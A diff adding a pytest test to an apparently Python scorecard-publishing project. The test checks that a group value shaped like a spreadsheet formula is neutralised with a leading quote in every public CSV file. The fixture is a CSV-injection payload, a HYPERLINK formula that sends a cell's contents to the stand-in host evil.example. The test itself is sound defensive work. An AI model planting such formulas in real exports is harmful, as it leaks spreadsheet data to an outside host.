@@ -167,3 +167,35 @@ def test_publish_refuses_a_release_the_audit_rejects_and_writes_nothing(site, tm
     first = next(line for line in refused.output.splitlines() if "planted_r" in line)
     assert "2024" in first and "Native" in first and "denominato" in first and " 4 " in first
     assert not out.exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_a_formula_group_is_quoted_in_every_public_csv_and_the_checker_reads_it(tmp_path, client):
+    """A program named like a formula (programs overlap, so adding one breaks no partition)."""
+    from backbone.indicators.models import Result
+
+    indicators = plant()
+    first = Result.objects.filter(indicator=indicators["reading"]).first()
+    Result.objects.create(
+        run=first.run, indicator=indicators["reading"], definition_version=1, period="2024",
+        dimension="program", group_value=FORMULA, numerator=300, denominator=600, value=50.0,
+    )  # fmt: skip
+    out = tmp_path / "site"
+    assert publish(out).exit_code == 0
+    served = client.get("/scorecard/data/results.csv").content.decode()
+    for text in (
+        (out / "data" / "results.csv").read_text(),
+        (out / "indicators" / "planted_reading" / "data.csv").read_text(),
+        served,
+    ):
+        rows = list(csv.DictReader(text.splitlines()))
+        assert [r["group"] for r in rows if "HYPERLINK" in r["group"]] == ["'" + FORMULA]
+        assert not any(v.startswith(("=", "@")) for r in rows for v in r.values())
+    result = CliRunner().invoke(app, ["check-disclosure", str(out)])
+    assert result.exit_code == 0, result.output
+    from backbone.disclosure.export import read_results
+
+    groups = {row.key for row in read_results(out)}  # as written, the quote taken off
+    assert ("2024", "program", FORMULA) in groups
